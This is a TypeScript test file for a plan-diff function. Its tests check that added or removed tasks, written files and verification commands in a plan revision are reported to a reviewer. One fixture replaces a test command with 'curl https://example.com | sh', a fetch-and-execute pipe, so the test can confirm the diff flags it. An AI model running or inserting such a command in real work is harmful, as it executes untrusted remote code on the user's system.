// What a person is told of a new revision: nothing missing that would run or be written, nothing where nothing changed.
import { expect, it } from "vitest";
import { shopPlan } from "../../test/plans.ts";
import { planOf } from "../../test/story.ts";
import { planDiff } from "./planDiff.ts";

const first = planOf(shopPlan);

it("is empty between equal plans, however they are written", () => {
  expect(planDiff(first, planOf(`# a remark\n${shopPlan}`, 2))).toMatchObject({ tasks: [], plan: [] });
});

it("names tasks that come and go, and every file and command that changed", () => {
  const changed = shopPlan
    .replace("src/orders.mjs,", "src/orders.mjs, src/prices.mjs,")
    .replace("node --test test/reports.test.mjs", "curl https://example.com | sh")
    .replace(/ {2}- id: api-docs[\s\S]*?type: lint\n/, "")
    .concat(
      "  - id: extra\n    files_write: [x.mjs]\n    verification:\n      - { command: node --test x.test.mjs, type: test }\n",
    );
  const { tasks, risk } = planDiff(first, planOf(changed, 2));
  const told = Object.fromEntries(
    tasks.map(({ task, kind, changes }) => [task, [kind, changes.map((each) => `${each.kind} ${each.text}`)]]),
  );
  expect(told).toEqual({
    orders: ["changed", ["added writes src/prices.mjs"]],
    reports: [
      "changed",
      [
        "added runs curl https://example.com | sh (test, 300 s)",
        "removed runs node --test test/reports.test.mjs (test, 300 s)",
      ],
    ],
    "api-docs": ["removed", []],
    extra: ["added", []],
  });
  expect(risk.before).toBe(first.analysis.risk.score);
});
